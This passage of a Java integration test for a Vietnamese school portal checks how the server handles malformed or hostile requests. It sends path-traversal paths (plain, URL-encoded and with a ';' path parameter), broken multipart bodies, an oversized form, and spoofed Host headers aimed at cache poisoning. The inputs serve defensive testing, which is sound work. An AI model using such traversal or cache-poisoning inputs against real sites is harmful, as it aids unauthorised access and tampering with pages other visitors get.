     * feed without its category, a path with dot segments, a body that cannot be read, a page kept for
     * one port and shown for another, open data without its cross-origin header from the cache.
     */
    @Test
    void oddRequestsAreBadInputNeverAFailureOrAnotherPortsPage() {
        PortalClient anyone = new PortalClient();
        assertEquals(404, anyone.get("/s/" + school + "/chuyen-muc/rss.xml").status(), "a category feed without its category");
        assertEquals(404, anyone.get("/static/../s/" + school + "/").status(), "dot segments");
        assertEquals(404, anyone.get("/admin/%2e%2e/s/" + school + "/").status(), "dot segments, encoded");
        String results = "/s/" + school + "/tuyen-sinh/ket-qua";
        assertEquals(400, rawPost(results, "multipart/form-data; boundary=XyZ", "--XyZ\r\n\r\nabc\r\n--XyZ--\r\n"),
                "a part without its headers");
        assertEquals(400, rawPost(results, "multipart/form-data", "x"), "a multipart body without its boundary");
        PortalClient.Page huge = anyone.exchange("POST", results, Map.of(), Map.of("code", "x".repeat(2_200_000)));
        assertEquals(400, huge.status(), "a form body over the container's limit");
        // The procedures' look-up takes papers: it reads its own body, and says so next to the look-up.
        PortalClient.Page papers = anyone.exchange("POST", "/s/" + school + "/tra-cuu?ma=AAAA-AAAA",
                Map.of("Content-Type", "multipart/form-data"), Map.of("x", "y"));
        assertEquals(200, papers.status(), papers.body());
        assertTrue(papers.doc().getElementById("e_lookup").text().contains("quá lớn"), papers.text());
        assertEquals(404, anyone.get("/static/..;/s/" + school + "/").status(), "dot segments with a path parameter");

        String article = "/s/" + school + "/?port=" + System.nanoTime();
        String port = String.valueOf(URI.create(vn.edu.portal.it.Deployments.baseUrl()).getPort());
        anyone.exchange("GET", article, Map.of("Host", "localhost:9999"), null);
        PortalClient.Page own = anyone.get(article);
        assertFalse(own.body().contains("localhost:9999"), "a page kept for another port is not this port's");
        assertTrue(own.body().contains(":" + port + "/") || !own.body().contains("localhost:"), own.body());
        // The same host in capitals (or, without a port, with a trailing dot) was the key's own spelling: the page written for it
        // (og:url, the share links) was the one every visitor then got. Such a request is answered, never kept.
        for (String spelling : List.of("LOCALHOST:" + port, "LocalHost:" + port)) {
            String page = "/s/" + school + "/?trang=" + (2 + System.nanoTime() % 1_000_000); // a parameter pages read: kept
            PortalClient.Page odd = anyone.exchange("GET", page, Map.of("Host", spelling), null);
            assertEquals(200, odd.status(), odd.body());
            assertTrue(odd.headers().firstValue("X-Portal-Cache").isEmpty(), "not kept: " + spelling);
            PortalClient.Page normal = anyone.get(page);
            assertFalse(normal.body().contains(spelling), "another visitor's page is written for the host as sent: " + spelling);
        }

        String data = "/du-lieu-mo/truong-hoc.json?c=" + System.nanoTime();
        for (int i = 0; i < 2; i++) {
            PortalClient.Page open = anyone.get(data);
            assertEquals("*", open.headers().firstValue("Access-Control-Allow-Origin").orElse(""),
                    "open data, from the cache too: " + open.headers().firstValue("X-Portal-Cache").orElse("?"));
        }
    }

    /** A post of exactly these bytes; its status. */
    private static int rawPost(String path, String contentType, String body) {
        try {
            return java.net.http.HttpClient.newHttpClient().send(java.net.http.HttpRequest.newBuilder(
                    URI.create(vn.edu.portal.it.Deployments.baseUrl() + path)).header("Content-Type", contentType)
                    .POST(java.net.http.HttpRequest.BodyPublishers.ofString(body)).build(),
                    java.net.http.HttpResponse.BodyHandlers.discarding()).statusCode();
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }
}
